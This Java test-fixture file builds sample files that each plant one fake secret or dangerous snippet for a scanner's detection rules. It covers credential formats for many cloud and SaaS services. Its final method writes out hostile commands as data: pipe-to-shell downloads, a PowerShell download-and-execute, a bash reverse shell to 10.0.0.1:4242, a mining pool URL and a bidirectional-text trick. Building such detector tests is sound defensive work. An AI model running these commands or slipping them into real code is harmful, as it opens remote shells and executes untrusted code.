package io.quantumlayer.security.internal.source;

import java.util.ArrayList;
import java.util.List;

/**
 * One danger for each rule for contents, as it looks in a file that somebody wrote.
 *
 * @param rule the rule that must see it
 * @param file the file's name
 * @param before what stands before the value
 * @param value the value
 * @param after what stands after it
 */
record Planted(String rule, String file, String before, String value, String after) {
    String content() {
        return "# settings\n\n" + before + value + after + "\n";
    }

    @Override
    public String toString() {
        return rule;
    }

    static List<Planted> all() {
        Drawn drawn = new Drawn(42);
        List<Planted> all = new ArrayList<>();
        addKeys(all, drawn);
        addClouds(all, drawn);
        addHosting(all, drawn);
        addServices(all, drawn);
        addMoreServices(all, drawn);
        addForms(all, drawn);
        addToolFiles(all, drawn);
        addCode(all);
        return all;
    }

    /** A token by itself, in a line of program text. */
    private static Planted token(String rule, String value) {
        return new Planted("secret." + rule, "App.java", "    call(\"", value, "\");");
    }

    private static void addKeys(List<Planted> all, Drawn drawn) {
        String begin = "-----BEGIN " + "RSA PRIVATE KEY-----";
        all.add(new Planted("secret.private-key", "server.pem", begin + "\n", drawn.base64(64), "\n"));
        all.add(new Planted("secret.putty-key", "x.txt", "PuTTY-User-" + "Key-File-", "2: ssh-rsa", "\n"));
        all.add(token("age-key", "AGE-SECRET-" + "KEY-1" + drawn.capitals(58)));
    }

    private static void addClouds(List<Planted> all, Drawn drawn) {
        all.add(token("aws-access-key", "AK" + "IA" + drawn.capitals(16)));
        all.add(new Planted("secret.aws-secret-key", "a.py", "AWS_SECRET_ACCESS_KEY = '", drawn.base64(40), "'"));
        all.add(token("aws-session-token", "IQoJb3Jp" + "Z2lu" + drawn.base64(120)));
        all.add(token("gcp-api-key", "AI" + "za" + drawn.url(35)));
        all.add(token("gcp-oauth-secret", "GOC" + "SPX-" + drawn.url(28)));
        all.add(token("gcp-access-token", "ya" + "29." + drawn.url(60)));
        all.add(new Planted("secret.azure-storage-key", "a.cs", "Account" + "Key=", drawn.base64(86) + "==", ";"));
        all.add(new Planted(
                "secret.azure-shared-access-key", "a.cs", "SharedAccess" + "Key=", drawn.base64(43) + "=", ""));
        all.add(new Planted(
                "secret.azure-client-secret", "a.txt", drawn.letters(3), "8Q" + "~" + drawn.letters(34), "\n"));
        all.add(new Planted(
                "secret.azure-sas", "a.txt", "https://a.blob/b?sv=2024&si" + "g=", drawn.letters(44) + "%3D", "\n"));
        all.add(token("digitalocean-token", "dop" + "_v1_" + drawn.hex(64)));
        all.add(token("cloudflare-origin-key", "v1" + ".0-" + drawn.hex(24) + "-" + drawn.hex(146)));
        all.add(token("heroku-key", "HR" + "KU-" + drawn.letters(36)));
        all.add(token("databricks-token", "da" + "pi" + drawn.hex(32)));
    }

    private static void addHosting(List<Planted> all, Drawn drawn) {
        all.add(token("github-token", "gh" + "p_" + drawn.letters(36)));
        all.add(token("github-fine-grained-token", "github" + "_pat_" + drawn.letters(22) + "_" + drawn.letters(59)));
        all.add(token("gitlab-token", "gl" + "pat-" + drawn.url(20)));
        all.add(token("atlassian-token", "ATA" + "TT3" + drawn.url(180)));
        all.add(token("npm-token", "np" + "m_" + drawn.letters(36)));
        all.add(token("pypi-token", "py" + "pi-AgE" + drawn.url(120)));
        all.add(token("rubygems-key", "ruby" + "gems_" + drawn.hex(48)));
        all.add(token("docker-token", "dckr" + "_pat_" + drawn.url(27)));
        all.add(token("artifactory-key", "AK" + "Cp" + drawn.letters(69)));
    }

    private static void addServices(List<Planted> all, Drawn drawn) {
        all.add(token(
                "slack-token", "xo" + "xb-" + drawn.digits(12) + "-" + drawn.digits(12) + "-" + drawn.letters(24)));
        String webhook = "T" + drawn.capitals(9) + "/B" + drawn.capitals(9) + "/" + drawn.letters(24);
        all.add(new Planted("secret.slack-webhook", "a.js", "https://hooks.slack" + ".com/services/", webhook, "'"));
        String discord = drawn.digits(18) + "/" + drawn.url(68);
        all.add(new Planted("secret.discord-webhook", "a.js", "https://discord" + ".com/api/webhooks/", discord, "'"));
        all.add(new Planted(
                "secret.telegram-token", "a.js", "bot" + drawn.digits(10), ":A" + "A" + drawn.url(33), "'"));
        all.add(token("stripe-key", "sk" + "_live_" + drawn.letters(24)));
        all.add(token("stripe-test-key", "sk" + "_test_" + drawn.letters(24)));
        all.add(token("stripe-webhook", "wh" + "sec_" + drawn.letters(32)));
        all.add(token("square-token", "sq0" + "csp-" + drawn.url(43)));
        all.add(token("shopify-token", "shp" + "at_" + drawn.hex(32)));
        all.add(token("openai-key", "sk" + "-proj-" + drawn.url(100)));
        all.add(token("anthropic-key", "sk" + "-ant-api03-" + drawn.url(95)));
        all.add(token("huggingface-token", "h" + "f_" + drawn.letters(34)));
        all.add(token("sendgrid-key", "S" + "G." + drawn.url(22) + "." + drawn.url(43)));
        all.add(token("mailgun-key", "ke" + "y-" + drawn.hex(32)));
        all.add(token("twilio-key", "S" + "K" + drawn.hex(32)));
    }

    private static void addMoreServices(List<Planted> all, Drawn drawn) {
        all.add(token("vault-token", "hv" + "s." + drawn.url(90)));
        all.add(new Planted(
                "secret.terraform-token", "a.tf", drawn.letters(14), ".atlas" + "v1." + drawn.url(67), "\n"));
        all.add(token("new-relic-key", "NR" + "AK-" + drawn.capitals(27)));
        all.add(token("grafana-token", "gl" + "sa_" + drawn.letters(32) + "_" + drawn.hex(8)));
        all.add(token("sentry-token", "sn" + "trys_" + drawn.base64(100)));
        all.add(token("postman-key", "PM" + "AK-" + drawn.hex(24) + "-" + drawn.hex(34)));
        all.add(token("linear-key", "lin" + "_api_" + drawn.letters(40)));
        all.add(token("notion-token", "nt" + "n_" + drawn.letters(46)));
        all.add(token("figma-token", "fi" + "gd_" + drawn.url(40)));
        all.add(token("supabase-key", "sb" + "p_" + drawn.hex(40)));
        all.add(token("planetscale-token", "psc" + "ale_tkn_" + drawn.url(43)));
        all.add(token("doppler-token", "d" + "p.pt." + drawn.letters(43)));
        all.add(token("pulumi-token", "pu" + "l-" + drawn.hex(40)));
    }

    private static void addForms(List<Planted> all, Drawn drawn) {
        String head = "ey" + "J" + drawn.url(33) + ".ey" + "J" + drawn.url(60) + ".";
        all.add(new Planted("secret.jwt", "a.ts", "const t = `" + head, drawn.url(43), "`;"));
        all.add(new Planted("secret.bearer-header", "a.http", "Authorization: Bear" + "er ", drawn.url(40), "\n"));
        all.add(new Planted("secret.basic-header", "a.http", "Authorization: Bas" + "ic ", drawn.letters(32), "\n"));
        all.add(new Planted("secret.url-password", "a.go", "postgres:" + "//app:", drawn.letters(14), "@db:5432/app"));
        all.add(new Planted("secret.url-weak-password", "a.go", "postgres:" + "//app:", "aab" + "b", "@db:5432/app"));
        all.add(new Planted("secret.assignment", "A.kt", "val dbPass" + "word: String = \"", drawn.letters(16), "\""));
        all.add(new Planted("secret.settings-value", "a.yml", "  api_ke" + "y: ", drawn.letters(32), "\n"));
        all.add(new Planted("secret.xml-element", "a.xml", "<pass" + "word>", drawn.letters(16), "</password>"));
        all.add(new Planted("secret.weak-password", "a.py", "pass" + "word = '", "autumn" + "2024", "'"));
    }

    private static void addToolFiles(List<Planted> all, Drawn drawn) {
        all.add(new Planted("secret.env-value", ".env", "DB_PASS" + "WORD=", "aut" + "umn7", "\n"));
        all.add(new Planted(
                "secret.npmrc-token", ".npmrc", "//npm.acme.test/:_auth" + "Token=", drawn.letters(20), "\n"));
        all.add(new Planted(
                "secret.netrc-password", ".netrc", "machine a login b pass" + "word ", drawn.letters(9), "\n"));
        all.add(new Planted("secret.pypirc-password", ".pypirc", "pass" + "word = ", drawn.letters(9), "\n"));
        all.add(new Planted("secret.docker-auth", "config.json", "{\"au" + "th\": \"", drawn.letters(20), "\"}"));
        all.add(new Planted("secret.kube-client-key", "admin.conf", "client-key-" + "data: ", drawn.base64(80), "\n"));
    }

    private static void addCode(List<Planted> all) {
        all.add(new Planted(
                "code.pipe-to-shell",
                "Dockerfile",
                "RUN ",
                "curl -fsSL https://get.acme.test | sudo " + "bash",
                " -s"));
        all.add(new Planted(
                "code.shell-of-download", "install.sh", "", "bash <(" + "curl -s https://get.acme.test)", ""));
        all.add(new Planted(
                "code.invoke-download", "a.ps1", "", "iex ((New-Object Net.WebClient).Download" + "String('x'))", ""));
        all.add(new Planted(
                "code.reverse-shell", "a.py", "os.system('ba", "sh -i >& /dev/" + "tcp/10.0.0.1/4242 0>&1", "')"));
        all.add(new Planted("code.miner", "a.js", "pool = '", "stratum+" + "tcp://pool.acme.test:3333", "'"));
        all.add(new Planted("text.bidirectional", "a.c", "if (admin) { // ", "\u202e", "\n"));
    }
}
